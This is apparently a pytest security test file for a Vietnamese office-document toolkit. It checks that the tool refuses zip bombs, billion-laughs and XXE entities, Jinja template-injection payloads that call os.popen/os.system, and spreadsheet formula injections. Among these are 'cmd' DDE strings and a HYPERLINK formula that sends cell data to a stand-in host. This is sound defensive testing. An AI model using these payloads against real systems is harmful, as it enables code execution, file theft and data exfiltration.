"""Files made to hurt: zip bombs, XML entities (billion laughs, a file pulled in by an
external entity), templates reaching for Python's internals, template code and formulas in
spreadsheet values. Nothing may be inflated, expanded, read, run or written as a formula."""
from __future__ import annotations

import csv
import shutil
import time
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from builders import good_docx, good_xlsx, replace_part
from common import assert_only_new, failure_line, records, tree
from conftest import make_template, make_workbook, outputs, texts

SECRET = "BI-MAT-7f3a9c"
LAUGHS = (b'<!DOCTYPE lolz [<!ENTITY a "hahahahaha">'
          + b"".join(b'<!ENTITY %s "%s">' % (bytes([98 + i]), b"&%s;" % bytes([97 + i]) * 10) for i in range(9))
          + b"]>")


@pytest.fixture(scope="module")
def pledge(tmp_path_factory) -> Path:
    return good_docx(tmp_path_factory.mktemp("pledge"))


def with_dtd(dtd: bytes, entity: bytes, marker: bytes):
    """An edit that puts a DTD before the root element and the entity where `marker` is."""
    def edit(xml: bytes) -> bytes:
        declaration, sep, rest = xml.partition(b"?>") if xml.startswith(b"<?xml") else (b"", b"", xml)
        return declaration + sep + dtd + rest.replace(marker, marker + entity, 1)
    return edit


def xxe(secret_file: Path) -> bytes:
    return b'<!DOCTYPE x [<!ENTITY s SYSTEM "%s">]>' % secret_file.as_uri().encode()


@pytest.fixture
def secret(tmp_path) -> Path:
    path = tmp_path / "bi-mat.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


def assert_secret_kept(folder: Path) -> None:
    """Neither the secret nor an expansion of the laughs is in any file written."""
    for path in Path(folder).rglob("*"):
        if path.is_file() and path.name != "bi-mat.txt":
            data = path.read_bytes()
            assert SECRET.encode() not in data and b"hahahahahahaha" not in data, path
            if zipfile.is_zipfile(path):
                with zipfile.ZipFile(path) as zf:
                    for name in zf.namelist():
                        inner = zf.read(name)
                        assert SECRET.encode() not in inner and b"hahahahahahaha" not in inner, (path, name)


# --- zip bombs ---------------------------------------------------------------------------------


def ratio_bomb(path: Path) -> Path:
    """20 MB of zeros that pack into 20 kB, added to a good file."""
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("docProps/thumbnail.bin", bytes(20 * 1024 * 1024))
    return path


def size_bomb(path: Path) -> Path:
    """A part whose directory entry declares 3 GB: refused from the declaration alone."""
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("docProps/thumbnail.bin", b"0" * 1000)
        zf.getinfo("docProps/thumbnail.bin").file_size = 3 * 1024 ** 3
    return path


@pytest.mark.parametrize("bomb", [ratio_bomb, size_bomb], ids=["ratio", "size"])
def test_parse_refuses_zip_bombs_and_reads_the_rest(cli, tmp_path, pledge, bomb):
    folder = tmp_path / "nhan-ve"
    folder.mkdir()
    shutil.copy(pledge, folder / "tot.docx")
    bomb(shutil.copy(pledge, folder / "bom.docx"))
    bomb(good_xlsx(folder / "bom.xlsx"))
    before = tree(tmp_path)
    start = time.perf_counter()

    result = cli("parse", folder, "-o", "kq.jsonl")

    assert time.perf_counter() - start < 10
    assert result.exit_code == 1 and "2 tệp không đọc được" in result.output
    for name in ("bom.docx", "bom.xlsx"):
        line = failure_line(result.output, name)
        assert "có thể là tệp độc hại (zip bomb); không xử lý" in line
    assert {Path(r["source"]["file"]).name for r in records(tmp_path / "kq.jsonl")} == {"tot.docx"}
    assert_only_new(tmp_path, before, "kq.jsonl")


@pytest.mark.parametrize("bomb", [ratio_bomb, size_bomb], ids=["ratio", "size"])
def test_generate_convert_and_form_refuse_zip_bombs(cli, tmp_path, bomb):
    data = bomb(make_workbook(tmp_path / "ds.xlsx", {"nam": 2025}, {"ca_nhan": [["Họ và tên"], ["An"]]}))
    template = bomb(make_template(tmp_path / "mau.docx", ["{{ ho_va_ten }}"]))
    good_template = make_template(tmp_path / "thu.docx", ["{{ ho_va_ten }}"])
    before = tree(tmp_path)
    runs = [("generate", good_template, data, "-o", "out", "--each", "ca_nhan"),
            ("generate", template, make_workbook(tmp_path / "ok.xlsx", {"nam": 2025}), "-o", "out"),
            ("convert", "table", data, "bang.csv"),
            ("convert", "unicode", data, "-o", "unicode.xlsx"),
            ("convert", "unicode", template, "-o", "unicode.docx"),
            ("form", "dang-ky-thi-dua", data, "-o", "mau-dk.xlsx")]
    before.add(Path("ok.xlsx"))
    for args in runs:
        result = cli(*args)
        assert result.exit_code == 1, args
        assert "zip bomb" in result.output and ("ds.xlsx" in result.output or "mau.docx" in result.output), args
    assert_only_new(tmp_path, before)


# --- XML entities ------------------------------------------------------------------------------


def hostile_returns(folder: Path, pledge: Path, secret: Path) -> list[str]:
    """A returned .docx and .xlsx with an external entity, and both with billion laughs."""
    names = []
    for name, dtd, entity in (("xxe", xxe(secret), b"&s;"), ("lol", LAUGHS, b"&j;")):
        docx = shutil.copy(pledge, folder / f"{name}.docx")
        replace_part(docx, "word/document.xml", with_dtd(dtd, entity, b"<w:t>"))
        xlsx = good_xlsx(folder / f"{name}.xlsx")
        replace_part(xlsx, "xl/worksheets/sheet1.xml", with_dtd(dtd, entity, b"<t>"))
        names += [docx.name, xlsx.name]
    return names


def test_parse_refuses_xml_entities_and_never_reads_the_file_they_point_at(cli, tmp_path, pledge, secret):
    folder = tmp_path / "nhan-ve"
    folder.mkdir()
    shutil.copy(pledge, folder / "tot.docx")
    bad = hostile_returns(folder, pledge, secret)
    before = tree(tmp_path)
    start = time.perf_counter()

    result = cli("parse", folder, "-o", "kq.jsonl")

    assert time.perf_counter() - start < 10
    assert result.exit_code == 1 and f"{len(bad)} tệp không đọc được" in result.output
    for name in bad:
        assert "khai báo thực thể XML" in failure_line(result.output, name)
    assert {Path(r["source"]["file"]).name for r in records(tmp_path / "kq.jsonl")} == {"tot.docx"}
    assert SECRET not in result.output
    assert_secret_kept(tmp_path)
    assert_only_new(tmp_path, before, "kq.jsonl")


def test_generate_and_convert_refuse_xml_entities(cli, tmp_path, secret):
    data = make_workbook(tmp_path / "ds.xlsx", {"nam": 2025}, {"ca_nhan": [["Họ và tên"], ["An"]]})
    replace_part(data, "xl/worksheets/sheet2.xml", with_dtd(xxe(secret), b"&s;", b"<t>"))
    laughing = make_template(tmp_path / "mau.docx", ["Kính gửi {{ ho_va_ten }}"])
    replace_part(laughing, "word/document.xml", with_dtd(LAUGHS, b"&j;", b"<w:t>"))
    good_template = make_template(tmp_path / "thu.docx", ["{{ ho_va_ten }}"])
    good_data = make_workbook(tmp_path / "ok.xlsx", {"nam": 2025}, {"ca_nhan": [["Họ và tên"], ["An"]]})
    before = tree(tmp_path)
    runs = [("generate", good_template, data, "-o", "out", "--each", "ca_nhan"),
            ("generate", laughing, good_data, "-o", "out", "--each", "ca_nhan"),
            ("template", "check", "dang-ky-thi-dua", data),
            ("convert", "table", data, "bang.csv"),
            ("convert", "unicode", data, "-o", "unicode.xlsx"),
            ("convert", "unicode", laughing, "-o", "unicode.docx"),
            ("form", "dang-ky-thi-dua", data, "-o", "mau-dk.xlsx")]
    for args in runs:
        result = cli(*args)
        assert result.exit_code == 1, (args, result.output)
        assert "khai báo thực thể XML" in result.output and "độc hại" in result.output, args
        assert SECRET not in result.output
    assert_secret_kept(tmp_path)
    assert_only_new(tmp_path, before)


# --- templates and values ----------------------------------------------------------------------


@pytest.mark.parametrize("code", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ''.__class__ }}",
    "{{ cycler.__init__.__globals__.os.popen('touch bi-xam-nhap').read() }}",
    "{{ lipsum.__globals__['os'].system('touch bi-xam-nhap') }}",
    "{% for x in range(10**9) %}{% endfor %}",
    "{{ 'x' * 10**9 }}",
])
def test_a_template_reaching_for_python_internals_is_blocked(cli, tmp_path, code):
    template = make_template(tmp_path / "doc-hai.docx", ["Kính gửi {{ ho_va_ten }}", code])
    data = make_workbook(tmp_path / "ds.xlsx", {"nam": 2025}, {"ca_nhan": [["Họ và tên"], ["An"], ["Bình"]]})
    before = tree(tmp_path)
    result = cli("generate", template, data, "-o", "out", "--each", "ca_nhan")
    assert result.exit_code == 1
    assert "2 tệp không tạo được" in result.output and "doc-hai.docx" in result.output
    assert "bị chặn" in result.output
    assert "access to" not in result.output and "MAX_RANGE" not in result.output  # said in Vietnamese
    assert not list(tmp_path.rglob("bi-xam-nhap"))
    assert not (tmp_path / "out").exists() or outputs(tmp_path / "out") == []
    assert_only_new(tmp_path, before, "out")


def test_template_code_in_spreadsheet_values_is_printed_as_written(cli, tmp_path):
    values = ["{{ 7*7 }}", "{% for x in ca_nhan %}lặp{% endfor %}", "{{ ''.__class__ }}", "<w:t>&amp;</w:t>"]
    template = make_template(tmp_path / "thu.docx", ["Kính gửi {{ ho_va_ten }}."])
    data = make_workbook(tmp_path / "ds.xlsx", {"nam": 2025}, {"ca_nhan": [["Họ và tên"], *[[v] for v in values]]})
    result = cli("generate", template, data, "-o", "out", "--each", "ca_nhan", "--name", "{stt}")
    assert result.exit_code == 0, result.output
    assert [texts(Path(f"out/{i}.docx")) for i in range(1, 5)] == [[f"Kính gửi {v}."] for v in values]


# --- formulas in what we write -----------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://x.example/?d="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=1+1"]


def as_text(path: Path) -> Path:
    """Cells holding formula-looking text are text, as a clerk who typed `'=…` would have them."""
    wb = load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    cell.data_type = "s"
    wb.save(path)
    return path


def assert_no_injected_formula(path: Path) -> int:
    """No cell of an .xlsx we wrote is a formula built from data; returns the text cells seen."""
    seen = 0
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert not any(marker in str(cell.value) for marker in ("HYPERLINK", "cmd", "1+1", "2+3")), \
                        (path.name, ws.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, str) and cell.value in FORMULAS:
                    assert cell.quotePrefix, (path.name, ws.title, cell.coordinate)
                    seen += 1
    return seen


def assert_csv_escaped(path: Path, encoding: str = "utf-8-sig") -> int:
    seen = 0
    for row in csv.reader(path.read_text(encoding=encoding).splitlines()):
        for field in row:
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")), (path.name, field)
            seen += field.lstrip("'") in FORMULAS
    return seen


def test_formula_looking_values_stay_text_in_every_spreadsheet_we_write(cli, tmp_path):
    """A registration list whose names look like formulas, through form, parse, convert and
    summarize: every .xlsx keeps them as quoted text, every .csv starts them with `'`."""
    data = as_text(make_workbook(
        tmp_path / "dk.xlsx",
        {"co_quan_ban_hanh": FORMULAS[0], "dia_danh": "An Giang", "nam": 2025, "cong_doan": FORMULAS[1],
         "chu_tich_ho_ten": "Nguyễn Văn Bảy"},
        {"ca_nhan": [["Họ và tên", "Chức vụ", "Danh hiệu"], *[[f, "Chuyên viên", "Lao động tiên tiến"]
                                                               for f in FORMULAS]]}))
    assert cli("form", "dang-ky-thi-dua", data, "-o", "mau.xlsx").exit_code == 0
    assert assert_no_injected_formula(tmp_path / "mau.xlsx") >= len(FORMULAS)

    for out in ("kq.xlsx", "kq.csv", "kq.jsonl"):
        result = cli("parse", data, "-o", out)
        assert result.exit_code == 0, result.output
    subjects = {r["subject"] for r in records(tmp_path / "kq.jsonl")}
    assert set(FORMULAS) <= subjects  # kept exactly, as data
    assert assert_no_injected_formula(tmp_path / "kq.xlsx") >= len(FORMULAS)
    assert assert_csv_escaped(tmp_path / "kq.csv") >= len(FORMULAS)

    assert cli("convert", "table", data, "bang.csv", "--sheet", "ca_nhan").exit_code == 0
    assert assert_csv_escaped(tmp_path / "bang.csv") == len(FORMULAS)
    assert cli("convert", "table", "bang.csv", "bang.xlsx").exit_code == 0
    assert assert_no_injected_formula(tmp_path / "bang.xlsx") == len(FORMULAS)

    summary = cli("summarize", "kq.jsonl", "-o", "tong-hop.xlsx")
    assert summary.exit_code in (0, 1), summary.output
    assert_no_injected_formula(tmp_path / "tong-hop.xlsx")

    report = cli("generate", "dang-ky-thi-dua", tmp_path / "khong-co.xlsx", "--report-errors", "loi.csv")
    assert report.exit_code == 1
    assert_csv_escaped(tmp_path / "loi.csv")


def test_summaries_keep_formula_looking_units_as_text(cli, tmp_path):
    from toolkit.records import Record, Source
    from toolkit.store import write_records

    rows = []
    for unit in FORMULAS[:2]:
        source = Source("bao-cao.xlsx", sheet="Kết quả", row=2, text=unit)
        rows += [Record("achievement", "ket_nap_doan_vien", source, subject=unit, subject_type="unit", unit=unit,
                        year=2025, value=5, op="=", measure="count", label=FORMULAS[2]),
                 Record("target", "ket_nap_doan_vien", source, subject=unit, subject_type="unit", unit=unit,
                        year=2025, value=10, op=">=", measure="count", label=FORMULAS[3])]
    write_records(tmp_path / "kq.jsonl", rows)
    result = cli("summarize", "kq.jsonl", "-o", "tong-hop.xlsx")
    assert result.exit_code == 0, result.output
    assert assert_no_injected_formula(tmp_path / "tong-hop.xlsx") >= 2


def test_convert_pdf_refuses_zip_bombs_and_locked_files_and_converts_the_rest(cli, tmp_path):
    from builders import password_protected

    good = make_template(tmp_path / "tot.docx", ["Báo cáo tổng kết"])
    size_bomb(make_template(tmp_path / "bom.docx", ["x"]))
    (tmp_path / "khoa.docx").write_bytes(password_protected())
    (tmp_path / "rong.xlsx").write_bytes(b"")
    before = tree(tmp_path)
    result = cli("convert", "pdf", good, tmp_path / "bom.docx", tmp_path / "khoa.docx", tmp_path / "rong.xlsx",
                 "-o", "pdf")
    assert result.exit_code == 1 and "3 tệp không tạo được" in result.output
    assert "bom.docx: tệp giải nén ra 3072 MB" in result.output and "zip bomb" in result.output
    assert "khoa.docx: tệp đang đặt mật khẩu; hãy bỏ mật khẩu" in result.output
    assert "rong.xlsx: tệp rỗng (0 byte)" in result.output
    assert [p.name for p in (tmp_path / "pdf").iterdir()] == ["tot.pdf"]
    assert_only_new(tmp_path, before, "pdf")


def test_a_zip_bomb_dressed_as_an_old_excel_file_never_reaches_libreoffice(cli, tmp_path):
    bomb = tmp_path / "bang-tinh.xls"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        zf.writestr("content.xml", bytes(20 * 1024 * 1024))
    start = time.perf_counter()
    result = cli("parse", bomb, "-o", "kq.jsonl")
    assert time.perf_counter() - start < 5  # refused, not converted
    assert result.exit_code == 1 and "zip bomb" in failure_line(result.output, "bang-tinh.xls")
